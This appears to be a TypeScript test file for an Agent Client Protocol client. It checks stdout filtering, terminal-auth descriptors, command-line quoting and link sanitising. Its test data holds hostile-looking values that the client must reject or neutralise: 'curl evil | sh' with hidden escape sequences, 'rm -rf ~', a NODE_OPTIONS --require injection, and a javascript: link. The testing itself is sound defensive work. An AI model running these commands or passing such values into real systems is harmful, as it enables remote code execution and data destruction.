/** Pure parts of the interop fixes (issue 8 §3): stdout filtering, legacy descriptors, error detail, links. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { MessageTooLargeError, RequestError } from "@agentclientprotocol/sdk/unstable";
import {
  chooseAuthMethod,
  commandLine,
  readAuthMethods,
  terminalInvocation,
} from "../../src/acp/client/index.ts";
import { agentDetail } from "../../src/acp/client/rpc-errors.ts";
import { jsonRpcMessages, StrayOutput } from "../../src/acp/client/stdout-lines.ts";
import { textLinks } from "../../src/cli/commands/acp-output.ts";

async function readAll(chunks: string[], max = 1024) {
  const stray = new StrayOutput();
  const encoder = new TextEncoder();
  const input = new ReadableStream<Uint8Array>({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(encoder.encode(chunk));
      controller.close();
    },
  });
  const messages: unknown[] = [];
  const reader = jsonRpcMessages(input, { maxMessageBytes: max, stray }).getReader();
  for (let next = await reader.read(); !next.done; next = await reader.read())
    messages.push(next.value);
  return { messages, stray };
}

test("[ACP-stray-stdout-dropped] only JSON objects with jsonrpc 2.0 pass; everything else is counted and kept clipped", async () => {
  const { messages, stray } = await readAll([
    "Starting up...\n",
    '{"jsonrpc":"2.0","id":1,"res',
    'ult":{}}\r\n',
    "[1,2]\n",
    '{"id":2,"result":{}}\n',
    "42\n",
    "{ not json\n",
    "\n   \n",
    `\u001b[2J${"x".repeat(400)}\n`,
    '{"jsonrpc":"2.0","method":"n"}',
  ]);
  assert.deepEqual(messages, [
    { jsonrpc: "2.0", id: 1, result: {} },
    { jsonrpc: "2.0", method: "n" },
  ]);
  assert.equal(stray.count, 6);
  assert.equal(stray.last.length, 5, "only the last five are kept");
  assert.equal(stray.last[0], "[1,2]");
  const last = stray.last.at(-1) ?? "";
  assert.ok(!last.includes("\u001b") && last.length <= 161, "sanitised and clipped");
  assert.match(stray.note(), /printed 6 lines on stdout that are not JSON-RPC \(dropped\)/);
  assert.equal(new StrayOutput().note(), "");
});

test("[ACP-stdout-oversized] a line over the limit ends the stream with the SDK's MessageTooLargeError, split or whole", async () => {
  for (const chunks of [["x".repeat(600), "y".repeat(600)], [`${"z".repeat(2000)}\n`]]) {
    await assert.rejects(readAll(chunks), (error) => error instanceof MessageTooLargeError);
  }
});

test('[ACP-legacy-terminal-read] _meta["terminal-auth"] and qwen\'s _meta.type are read; malformed ones ignored', () => {
  const methods = readAuthMethods(
    [
      {
        id: "claude-login",
        name: "Log in",
        _meta: {
          "terminal-auth": {
            command: "/usr/bin/claude",
            args: ["/login", 7, null],
            env: { A: "1", D: 2 }, // a bad name refuses the descriptor: ACP-terminal-env-confirm
            label: "Claude login",
          },
        },
      },
      { id: "openai", name: "OpenAI", _meta: { type: "terminal", args: ["--auth-type=openai"] } },
      { id: "broken", name: "B", _meta: { "terminal-auth": { command: 42, args: ["x"] } } },
      { id: "gemini-api-key", name: "Key", _meta: { "api-key": { provider: "google" } } },
      { id: "api-key", name: "Key" },
      {
        id: "t",
        name: "T",
        type: "terminal",
        args: ["--login"],
        _meta: { "terminal-auth": { command: "x" } },
      },
    ],
    1,
  );
  const [claude, qwen, broken, gemini, plain, spec] = methods;
  assert.deepEqual(claude?.terminal, {
    style: "terminal-auth",
    command: "/usr/bin/claude",
    args: ["/login"],
    env: { A: "1" },
    label: "Claude login",
  });
  assert.equal(claude?.type, "agent", "the wire type is kept");
  assert.deepEqual(qwen?.terminal, { style: "meta-type", args: ["--auth-type=openai"], env: {} });
  assert.equal(broken?.terminal, undefined);
  assert.equal(spec?.terminal, undefined, "a spec terminal method keeps the spec's meaning");
  assert.deepEqual(
    [claude, gemini, plain].map((m) => m?.takesApiKey),
    [false, true, true],
  );
});

test("[ACP-legacy-terminal-invocation] terminal-auth runs the agent-named command (marked agentNamed); meta-type appends to ours", () => {
  const launch = { command: "qwen", args: ["--acp"], env: { PATH: "/bin" } };
  const [named, appended] = readAuthMethods(
    [
      {
        id: "a",
        name: "A",
        _meta: { "terminal-auth": { command: "claude", args: ["/login"], env: { X: "1" } } },
      },
      { id: "b", name: "B", _meta: { type: "terminal", args: ["--auth-type=openai"] } },
    ],
    1,
  );
  assert.ok(named && appended);
  const first = terminalInvocation(launch, named);
  assert.deepEqual(
    [first.command, first.args, first.env.X, first.agentNamed],
    ["claude", ["/login"], "1", true],
  );
  const second = terminalInvocation(launch, appended);
  assert.deepEqual(
    [second.command, second.args, second.agentNamed],
    ["qwen", ["--acp", "--auth-type=openai"], false],
  );
  const abilities = { showUrl: true, runTerminal: true, askEnvVars: false, envHas: () => false };
  assert.equal(chooseAuthMethod([named], abilities, { agentIsAgentauth: false }).id, "a");
  assert.throws(
    () =>
      chooseAuthMethod(
        [named],
        { ...abilities, terminalRefusal: "stdin is not a terminal" },
        {
          agentIsAgentauth: false,
        },
      ),
    (error: Error & { code?: string }) =>
      error.code === "acp_method_unsupported" && /stdin is not a terminal/.test(error.message),
  );
  // A caller with no terminal runner sends it to authenticate, as advertised.
  const noTerminal = { ...abilities, runTerminal: false };
  assert.equal(chooseAuthMethod([named], noTerminal, { agentIsAgentauth: false }).id, "a");
});

test("[ACP-terminal-command-line] the command shown to the person is exact, quoted where needed, without escapes", () => {
  assert.equal(
    commandLine({
      command: "claude",
      args: ["/login"],
      extraEnv: { NODE_OPTIONS: "--require /tmp/x.js" },
    }),
    "NODE_OPTIONS='--require /tmp/x.js' claude /login",
  );
  assert.equal(
    commandLine({ command: "/usr/bin/claude", args: ["auth", "login", "--x=1"] }),
    "/usr/bin/claude auth login --x=1",
  );
  assert.equal(
    commandLine({ command: "sh", args: ["-c", "rm -rf ~; echo 'hi'", "\u001b[2Jx"] }),
    "sh -c 'rm -rf ~; echo '\\''hi'\\''' '[2Jx'",
  );
});

test("[ACP-login-error-detail] agentDetail: data.details, else data.message, else data as a string (codex-acp); sanitised, clipped; nothing else of data", () => {
  const detail = (data: unknown) => agentDetail(new RequestError(-32603, "Internal error", data));
  assert.equal(detail({ details: "Missing API key" }), ' The agent says: "Missing API key"');
  assert.equal(detail({ message: "quota\u001b[31m" }), ' The agent says: "quota [31m"');
  assert.equal(detail({ details: 5, token: "secret-xyz" }), "");
  assert.equal(detail("CODEX_API_KEY is not set"), ' The agent says: "CODEX_API_KEY is not set"');
  assert.equal(detail(undefined), "");
  assert.ok(detail({ details: "d".repeat(5000) }).length < 340);
  assert.equal(agentDetail(new Error("x")), "");
});

test("[ACP-login-waiting] links on the agent's stderr: found across chunks, once each, openable only, sanitised", () => {
  const shown: string[] = [];
  const feed = textLinks((url) => shown.push(url));
  feed("Open http://127.0.0.1:1455/auth?x=");
  feed("1 to continue.\nagain http://127.0.0.1:1455/auth?x=1\n");
  feed("javascript:alert(1) http://evil.example/login https://accounts.example.com/o?\u202eq=1\n");
  feed(`${"a".repeat(100_000)}\n`);
  assert.deepEqual(shown, [
    "http://127.0.0.1:1455/auth?x=1",
    "https://accounts.example.com/o?%E2%80%AEq=1",
  ]);
});

test("[ACP-legacy-terminal-hostile] a terminal-auth command that cannot be shown exactly is not used at all", () => {
  const descriptor = (command: unknown, args: unknown) => ({
    id: "x",
    name: "X",
    _meta: { "terminal-auth": { command, args } },
  });
  const methods = readAuthMethods(
    [
      descriptor("sh", ["-c", "curl evil | sh\u001b[2K\rclaude /login"]),
      { ...descriptor("sh\u202e", []), id: "y" },
      {
        ...descriptor(
          "x",
          Array.from({ length: 100 }, () => "a"),
        ),
        id: "z",
      },
      { ...descriptor("x", ["a".repeat(301)]), id: "w" },
      { ...descriptor("/usr/bin/claude", ["/login", 5]), id: "ok" },
    ],
    1,
  );
  assert.deepEqual(
    methods.map((m) => [m.id, m.terminal?.style]),
    [
      ["x", undefined],
      ["y", undefined],
      ["z", undefined],
      ["w", undefined],
      ["ok", "terminal-auth"],
    ],
  );
});
